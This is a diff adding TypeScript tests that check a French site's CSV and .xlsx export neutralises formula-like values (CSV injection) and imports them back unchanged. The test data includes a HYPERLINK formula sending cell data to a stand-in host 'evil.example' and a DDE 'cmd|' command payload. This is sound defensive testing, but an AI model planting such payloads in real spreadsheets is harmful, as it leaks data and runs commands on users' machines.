@@ -1,7 +1,8 @@
 /**
  * CSV in and out: the small reader and writer on the cases French spreadsheet software produces
  * (BOM or not, CRLF or LF, quoted separators, line breaks and quotes), then the whole site
- * exported as CSV and imported back unchanged, and edits and errors read from CSV files.
+ * exported as CSV and imported back unchanged, and edits and errors read from CSV files; values
+ * starting like a formula written so that no spreadsheet runs them, and read back exactly (issue 19).
  */
 import { test } from 'node:test';
 import { changedFiles, copyContent } from '../content-copy.ts';
@@ -9,8 +10,11 @@ import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join, relative } from 'node:path';
-import { CsvError, readCsv, writeCsv } from '../../scripts/tableur/csv.ts';
-import { exportCsv } from '../../scripts/tableur/classeur.ts';
+import ExcelJS from 'exceljs';
+import { CsvError, SEPARATOR, readCsv, writeCsv } from '../../scripts/tableur/csv.ts';
+import { buildWorkbook, exportCsv, loadContent } from '../../scripts/tableur/classeur.ts';
+import { isFormulaStart } from '../../src/lib/csv.ts';
+import { PAYLOADS, formulaCells } from '../csv-payloads.ts';
 import { formatImportProblem, formatSummary, importCsv, type SheetProblem } from '../../scripts/tableur/import.ts';
 
 const INSERM = 'inserm-fiphfp-2023-2026';
@@ -57,6 +61,26 @@ test('the reader takes back what Excel and LibreOffice write', () => {
   ]);
   // A round label with commas stays one column in a semicolon file.
   assert.deepEqual(readCsv(bytes(`identifiant;${ROUND};publics\r\n`))[0], ['identifiant', ROUND, 'publics']);
+});
+
+test('the reader takes back an exported file as LibreOffice saves it again: apostrophes kept, unquoted, line feeds', () => {
+  // Lines of a file written by writeCsv, opened in LibreOffice Calc 7.4 and saved as CSV (issue 19):
+  // a cell that started with a carriage return comes back with a line feed after its apostrophe.
+  const saved = [
+    'n;valeur',
+    '1;"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")"',
+    "2;'+cmd|' /C calc'!A0",
+    "3;'\t=1+1",
+    '4;"\'\n=1+1"',
+    "5;'-3 postes",
+    "6;'déjà cité'",
+    "7;''=1+1",
+    '',
+  ].join('\n');
+  assert.deepEqual(
+    readCsv(bytes(saved)).map((row) => row[1]),
+    ['valeur', PAYLOADS[0], PAYLOADS[1], '\t=1+1', '\n=1+1', '-3 postes', "'déjà cité'", "'=1+1"],
+  );
 });
 
 test('the reader refuses what it cannot read safely, saying where and why', () => {
@@ -203,4 +227,83 @@ test('the command line imports several CSV files at once and exits 1 on an unrea
     bad.stderr,
     /^L’import CSV comporte 1 erreur ; aucun fichier n’a été modifié\.\n\n✗ fichier « .+-latin1\.csv », ligne 1 : fichier qui n’est pas en UTF-8/,
   );
+});
+
+/**
+ * A copy of the content where the first Inserm actions and the round hold values starting like a
+ * formula, as a référent could type them: OWASP's payloads in a title, a wording and comments, and
+ * a round label that becomes a column header.
+ */
+function hostileContent(): string {
+  const dir = copyContent('tableur-csv-');
+  const edit = (path: string, from: string, to: string) => {
+    const file = join(dir, 'content', path);
+    const text = readFileSync(file, 'utf8');
+    assert.ok(text.includes(from), `${path} : ${from}`);
+    writeFileSync(file, text.replace(from, to));
+  };
+  const action = (n: string) => `actions/${INSERM}/action-${n}.mdx`;
+  const status = '  - { round: bilans-2023-2025, status: R }';
+  edit(action('01'), 'title: "Maintien des objectifs de recrutement"', `title: ${JSON.stringify(PAYLOADS[0])}`);
+  edit(action('01'), status, `  - { round: bilans-2023-2025, status: R, comment: ${JSON.stringify(PAYLOADS[1])} }`);
+  edit(action('02'), /^title: .*$/m.exec(readFileSync(join(dir, 'content', action('02')), 'utf8'))![0], 'title: "= voir plus haut"');
+  edit(
+    action('02'),
+    /^wording: .*$/m.exec(readFileSync(join(dir, 'content', action('02')), 'utf8'))![0],
+    `wording: ${JSON.stringify(PAYLOADS[3])}`,
+  );
+  edit(`conventions/${INSERM}.mdx`, `label: "${ROUND}"`, `label: "-${ROUND}"`);
+  return dir;
+}
+
+test('formula-safe: no cell of the exported CSV starts like a formula, and importing it back changes nothing', () => {
+  const dir = hostileContent();
+  const { files } = exportCsv(join(dir, 'csv'), dir, 'content', INSERM);
+  const text = readFileSync(files[0]!, 'utf8');
+  // The content is hostile (else this test proves nothing); the file is not.
+  assert.ok(readCsv(readFileSync(files[0]!)).flat().filter(isFormulaStart).length >= 5);
+  assert.deepEqual(formulaCells(text, SEPARATOR), []);
+  assert.ok(text.includes(`;"'-${ROUND}";`), 'en-tête protégé');
+  assert.ok(text.includes(`;"'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")";`));
+  const result = importCsv(files, { root: dir });
+  assert.deepEqual(result.problems.map(formatImportProblem), []);
+  assert.deepEqual(result.changes, []);
+});
+
+test('formula-safe: values starting with "-", "+", "=" or an apostrophe typed in a CSV file reach the content unchanged', () => {
+  const dir = hostileContent();
+  const { files } = exportCsv(join(dir, 'csv'), dir, 'content', INSERM);
+  const rows = readCsv(readFileSync(files[0]!));
+  const comment = rows[0]!.indexOf(`Commentaire (-${ROUND})`);
+  const typed = ['-3 postes', '+33 1 23 45 67 89', "'déjà cité'", '= voir plus haut', "'=1+1"];
+  typed.forEach((value, i) => (rows[i + 3]![comment] = value));
+  // Saved by our writer (each protected cell after its apostrophe) and, for the first one, as a
+  // spreadsheet that drops the apostrophe would save it.
+  const file = join(dir, 'csv', `${INSERM}.csv`);
+  writeFileSync(file, writeCsv(rows).replace(`"'-3 postes"`, '-3 postes'));
+  const result = importCsv([file], { root: dir });
+  assert.deepEqual(result.problems.map(formatImportProblem), []);
+  assert.match(formatSummary(result.changes), /^0 statut modifié, 5 commentaires modifiés, 0 texte modifié\./);
+  const { entries } = loadContent(dir);
+  const commentOf = (id: string) => entries.actions.find((a) => a.id === id)!.data.statuses![0]!.comment;
+  assert.deepEqual(
+    typed.map((_, i) => commentOf(rows[i + 3]![0]!)),
+    typed,
+  );
+});
+
+test('the .xlsx export keeps every such value as text: no cell becomes a formula', async () => {
+  const dir = hostileContent();
+  const workbook = await buildWorkbook(loadContent(dir).entries);
+  const reread = new ExcelJS.Workbook();
+  await reread.xlsx.load(await workbook.xlsx.writeBuffer());
+  const cells: ExcelJS.Cell[] = [];
+  reread.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
+  const formulaLike = cells.filter((cell) => typeof cell.value === 'string' && isFormulaStart(cell.value));
+  assert.ok(formulaLike.length >= 5, 'jeu d’essai sans formule');
+  assert.deepEqual(
+    cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined).map((cell) => cell.address),
+    [],
+  );
+  assert.ok(formulaLike.some((cell) => cell.value === PAYLOADS[0]));
 });
